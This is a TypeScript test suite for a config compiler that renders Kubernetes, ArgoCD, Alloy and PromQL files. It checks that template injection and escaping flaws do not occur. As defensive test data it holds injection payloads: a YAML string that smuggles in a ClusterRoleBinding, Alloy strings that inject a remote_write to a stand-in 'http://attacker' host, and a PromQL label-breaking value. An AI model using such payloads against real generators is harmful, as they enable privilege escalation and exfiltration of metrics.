// Fault catalog C (docs/reliability.md, C rows): template injection and escaping. The
// schema keeps hostile strings out of most fields, so each test also renders
// a spec that skipped validation: the escaping must hold on its own.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { parse, parseAllDocuments } from 'yaml';
import type { RenderedFile } from '../compiler/emit-types.ts';
import { compileSpec } from '../compiler/index.ts';
import { buildModel } from '../compiler/model/index.ts';
import { packageRoot } from '../compiler/paths.ts';
import { createEngine, render } from '../compiler/render/index.ts';
import { compileTemplates } from '../compiler/render/templates.ts';
import { fabricSchema } from '../compiler/validate/schema.ts';
import { checkAlloy } from '../compiler/verify/alloy.ts';
import { queryError } from '../compiler/verify/queries.ts';
import { compile, GOLDEN_CASES, readTree } from './helpers/compile.ts';
import { fromRoot } from './helpers/paths.ts';
import { diagnostics, exits, fabric, REFERENCE, tempDir, validate, writeSpec } from './fault-catalog-helpers.ts';

/** A spec as data, changed, and rendered without validation (the model trusts the validator; the escaping must not). */
function renderUnchecked(change: (spec: any) => void): RenderedFile[] {
  const spec = parse(REFERENCE);
  change(spec);
  return render(buildModel(spec, 'fabric.yaml'));
}

const yamlFiles = (files: RenderedFile[]) => files.filter((f) => f.path.endsWith('.yaml'));
const documents = (files: RenderedFile[]) =>
  yamlFiles(files).flatMap((f) => parseAllDocuments(f.contents).map((d) => ({ path: f.path, value: d.toJS() })));

/** Every string in a parsed value, and every mapping key. */
function strings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) value.forEach((v) => strings(v, out));
  else if (value && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) {
      out.push(k);
      strings(v, out);
    }
  return out;
}

const INJECTION =
  'x\n  labels:\n    evil: "true"\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: pwn}\n# abc #comment: x "hi"';
const baseline = documents(renderUnchecked(() => {}));

test('C1: values cannot change the structure of the YAML they land in: new keys, documents and comments stay inside the string', () => {
  // The schema refuses such values where users write them...
  const r = validate(REFERENCE.replace('image: fabric/instrumented-app:0.1.0', 'image: "x\\n---\\nkind: Secret"'));
  exits(r, 1);
  assert.equal(
    diagnostics(r).map((d) => d.code),
    ['FAB104'],
  );
  // ...and the output holds without it: every value is one YAML scalar, parsed back before it is written.
  const places: [string, (s: any) => void][] = [
    [
      'apps.<app>.image',
      (s) => {
        s.apps['instrumented-app'].image = INJECTION;
      },
    ],
    [
      'git.repoURL',
      (s) => {
        s.git.repoURL = INJECTION;
      },
    ],
    [
      'git.revision',
      (s) => {
        s.git.revision = INJECTION;
      },
    ],
    [
      'grafana.adminSecret',
      (s) => {
        s.grafana.adminSecret = INJECTION;
      },
    ],
    [
      'grafana.host',
      (s) => {
        s.grafana.host = INJECTION;
      },
    ],
    [
      'clusters.<name>.server',
      (s) => {
        Object.assign(s.clusters['prod-cluster'], {
          provider: 'existing',
          context: 'prod',
          server: INJECTION,
          cpus: undefined,
          memory: undefined,
        });
      },
    ],
  ];
  for (const [where, change] of places) {
    const docs = documents(renderUnchecked(change));
    assert.is(docs.length, baseline.length, `${where}: no document added`);
    assert.not.ok(
      docs.some((d) => strings(d.value).includes('evil') || d.value?.metadata?.name === 'pwn'),
      `${where}: no key or object injected`,
    );
    assert.ok(
      docs.some((d) => strings(d.value).includes(INJECTION)),
      `${where}: the value arrives whole`,
    );
  }
});

test('C1: git.path reaches the ApplicationSets through the yaml helper: a hostile path stays one scalar', () => {
  const path = "p'\n        evil: 'x";
  const docs = documents(
    renderUnchecked((s) => {
      s.git.path = path;
    }),
  );
  assert.not.ok(
    docs.some((d) => d.value && typeof d.value === 'object' && JSON.stringify(d.value).includes('"evil":')),
    'no key injected',
  );
  const appsets = docs.filter(
    (d) => d.value?.kind === 'ApplicationSet' && ['alloy-agents', 'instrumented-apps'].includes(d.value.metadata.name),
  );
  assert.is(appsets.length, 2);
  for (const a of appsets)
    assert.is(
      a.value.spec.template.spec.source.path,
      `${path}/gitops/components/{{.values.component}}/overlays/{{.name}}`,
    );
  // And the schema refuses such a path in the first place.
  assert.equal(
    diagnostics(validate(REFERENCE.replace('revision: main', 'revision: main\n  path: "p\'\\n  evil: x"'))).map(
      (d) => d.code,
    ),
    ['FAB104'],
  );
});

test('C2: no HTML escaping: & < > " = reach the output as written', () => {
  const url = 'https://git.example/org/fleet.git?a=1&b=2';
  const dir = tempDir();
  exits(
    fabric([
      'compile',
      '--spec',
      writeSpec(REFERENCE.replace('https://github.com/you/fabric-gitops.git', url), dir),
      '--out',
      join(dir, 'out'),
    ]),
    0,
  );
  const projects = readFileSync(join(dir, 'out/gitops/argocd-apps/projects.yaml'), 'utf8');
  assert.ok(projects.includes(url), projects);
  assert.not.match(projects, /&amp;|&#x3D;/);

  const secret = 'p&ss<"x">=';
  const docs = documents(
    renderUnchecked((s) => {
      s.grafana.adminSecret = secret;
    }),
  );
  const grafana = docs.find((d) => d.value?.kind === 'Deployment' && d.value.metadata.name === 'grafana')!.value;
  const env = grafana.spec.template.spec.containers[0].env.find((e: any) => e.name === 'GF_SECURITY_ADMIN_PASSWORD');
  assert.is(env.valueFrom.secretKeyRef.name, secret);
});

test('C3: a value the model lacks is an error while rendering, never an empty field', () => {
  const templates = compileTemplates(createEngine());
  assert.throws(
    () => templates.get('app/base/service.yaml.hbs')!({ app: { port: 8080 }, serviceType: 'ClusterIP' }),
    /a template asked for a value the model does not have/,
  );
  assert.throws(
    () => templates.get('app/base/service.yaml.hbs')!({ app: { name: 'web', port: 8080 } }),
    /a template asked for a value the model does not have/,
  );
  const model = buildModel(parse(REFERENCE), 'fabric.yaml');
  delete (model.grafana as Partial<typeof model.grafana>).adminSecret;
  assert.throws(() => render(model), /a template asked for a value the model does not have/);
});

test('C4: literal {{ }} that the output needs survive: alert annotations, ApplicationSet go templates, Grafana legends', () => {
  const dir = tempDir();
  exits(fabric(['compile', '--spec', 'spec/fabric.yaml', '--out', join(dir, 'out')]), 0);
  const tree = readTree(join(dir, 'out'));
  const rules = parse(tree.get('gitops/components/alerting-rules/overlays/prod/rules.yaml')!);
  assert.ok(
    rules.spec.groups[0].rules.every((r: any) => r.annotations.summary.startsWith('{{ $labels.')),
    'every summary names its series',
  );
  const appset = parse(tree.get('gitops/argocd-apps/alloy-agents.yaml')!);
  assert.is(appset.spec.template.metadata.name, '{{.values.component}}-{{.name}}');
  assert.is(appset.spec.template.spec.destination.server, '{{.server}}');
  const dashboard = JSON.parse(tree.get('gitops/components/monitoring/grafana/overlays/monitoring-cluster/red.json')!);
  assert.ok(dashboard.panels.some((p: any) => p.targets.some((t: any) => t.legendFormat === '{{cluster}} {{job}}')));
});

test('C5: YAML 1.1 readers see what YAML 1.2 readers see, in every file of every golden spec; long PromQL is not folded', () => {
  const trees = [
    ...['spec/fabric.yaml', ...GOLDEN_CASES.map((c) => `tests/golden/${c}/fabric.yaml`)].map((s) => compile(s).files),
    renderUnchecked((s) => {
      s.name = 'no';
      s.grafana.adminSecret = 'yes';
      s.grafana.host = 'on';
      s.git.revision = '0800';
      s.apps['instrumented-app'].image = '1:30';
      s.apps['instrumented-app'].hosts.stage = '2024-01-01';
    }),
  ];
  for (const files of trees) {
    for (const f of yamlFiles(files)) {
      const read = (version: '1.1' | '1.2') => parseAllDocuments(f.contents, { version }).map((d) => d.toJS());
      assert.equal(read('1.1'), read('1.2'), f.path);
    }
  }
  const rules = compile('spec/fabric.yaml').files.find((f) => f.path.endsWith('overlays/prod/rules.yaml'))!.contents;
  const exprs = parse(rules)
    .spec.groups[0].rules.map((r: any) => r.expr as string)
    .filter((e: string) => e.length > 80);
  assert.ok(exprs.length > 0);
  for (const e of exprs)
    assert.ok(rules.includes(`expr: ${e}\n`) || rules.includes(`expr: ${JSON.stringify(e)}\n`), `folded: ${e}`);
});

test('C6: values in Alloy and PromQL stay inside their string literals; Alloy labels are derived, not spliced', () => {
  const ip = '10.0.0.1"\n}\nprometheus.remote_write "evil" {\n  endpoint { url = "http://attacker" }\n}\n//';
  const files = renderUnchecked((s) => {
    s.clusters['monitoring-cluster'].ip = ip;
  });
  const agents = files.filter((f) => /alloy-agent\/overlays\/[^/]+\/config\.alloy$/.test(f.path));
  assert.ok(agents.length >= 2);
  for (const f of agents) {
    assert.equal(checkAlloy(f.contents), [], f.path);
    assert.is((f.contents.match(/^prometheus\.remote_write /gm) ?? []).length, 1, `${f.path}: one remote_write`);
    assert.match(
      f.contents,
      `url = ${JSON.stringify(`http://${ip}:`).slice(0, -1)}`,
      'the address is escaped inside its string',
    );
  }

  const app = 'web"} or vector(1) or {job="x\\';
  const rules = documents(
    renderUnchecked((s) => {
      s.apps[app] = s.apps['instrumented-app'];
      delete s.apps['instrumented-app'];
    }),
  )
    .filter((d) => d.value?.kind === 'PrometheusRule')
    .flatMap((d) => d.value.spec.groups[0].rules);
  assert.ok(rules.length >= 5);
  for (const r of rules) assert.is(queryError('promql', r.expr), undefined, r.expr);
  assert.ok(
    rules.some((r: any) => r.expr.includes(`job=${JSON.stringify(app)}`)),
    'the app name is one escaped label value',
  );
});

test('C6: cluster and environment names reach Alloy configs only inside escaped strings, never in comments', () => {
  const evil = 'x\nprometheus.remote_write "evil" {\n  endpoint { url = "http://attacker" }\n}\n//';
  const files = renderUnchecked((s) => {
    s.clusters[evil] = s.clusters['stage-cluster'];
    delete s.clusters['stage-cluster'];
  });
  const agent = files.find((f) => f.path.endsWith('config.alloy') && f.contents.includes('attacker'))!;
  assert.is((agent.contents.match(/^prometheus\.remote_write /gm) ?? []).length, 1, 'no component injected');
  assert.equal(checkAlloy(agent.contents), [], 'still one well-formed config');
  assert.equal(
    diagnostics(validate(REFERENCE.replace('  stage-cluster:', '  "x\\nprometheus.remote_write":'))).map((d) => d.code),
    ['FAB105'],
  );
});

test('C7: templates ship with fabric and run with a pinned, proto-safe Handlebars; helpers are pure', () => {
  const keys: string[] = [];
  const walk = (s: any) => {
    if (!s || typeof s !== 'object') return;
    for (const [k, v] of Object.entries(s)) {
      if (k === 'properties') keys.push(...Object.keys(v as object));
      walk(v);
    }
  };
  // git.credentials names where ArgoCD's repository token or key comes from: only the runner reads
  // that file, at apply time, onto kubectl's stdin; compiling never opens it (checked below).
  walk({
    ...fabricSchema,
    $defs: {
      ...fabricSchema.$defs,
      git: { ...fabricSchema.$defs.git, properties: { ...fabricSchema.$defs.git.properties, credentials: {} } },
    },
  });
  assert.ok(keys.length > 40);
  const credentialed = compileSpec(
    writeSpec(
      REFERENCE.replace(
        '  repoURL: https://github.com/you/fabric-gitops.git',
        '  repoURL: https://github.com/you/fabric-gitops.git\n  credentials: { tokenFile: /nonexistent/token }',
      ),
    ),
  );
  assert.ok('model' in credentialed, 'compiling does not read git.credentials files');
  assert.equal(
    // `description` (a custom alert's annotation text) holds "script" but names nothing to load.
    keys.filter((k) => /template|helper|partial|script|file/i.test(k.replace(/description/gi, ''))),
    [],
    'the spec cannot name a template or a file to load',
  );
  assert.ok(compileTemplates(createEngine()).size >= 30);
  assert.ok(
    readFileSync(join(packageRoot(), 'templates/argocd-apps/projects.yaml.hbs'), 'utf8').length > 0,
    'templates live in the package',
  );

  const [major, minor, patch] = JSON.parse(readFileSync(fromRoot('node_modules/handlebars/package.json'), 'utf8'))
    .version.split('.')
    .map(Number);
  assert.ok(
    major > 4 || (major === 4 && (minor > 7 || (minor === 7 && patch >= 10))),
    'handlebars >= 4.7.10 (CVE-2026-106445)',
  );
  assert.match(
    JSON.parse(readFileSync(fromRoot('package.json'), 'utf8')).dependencies.handlebars,
    /^\^4\.7\.(1\d|[2-9]\d)/,
  );
  const sources = ['compiler/render/index.ts', 'compiler/render/templates.ts']
    .map((f) => readFileSync(fromRoot(f), 'utf8'))
    .join('\n');
  assert.not.match(
    sources,
    /allowProto(Properties|Methods)ByDefault|allowedProto/,
    'no prototype access is ever allowed',
  );

  // Pure helpers: another working directory and environment render the same bytes.
  const first = renderUnchecked(() => {});
  const cwd = process.cwd();
  const home = process.env.HOME;
  try {
    process.chdir(tempDir());
    process.env.HOME = '/nonexistent';
    assert.equal(
      renderUnchecked(() => {}),
      first,
    );
  } finally {
    process.chdir(cwd);
    process.env.HOME = home;
  }
});

test.run();
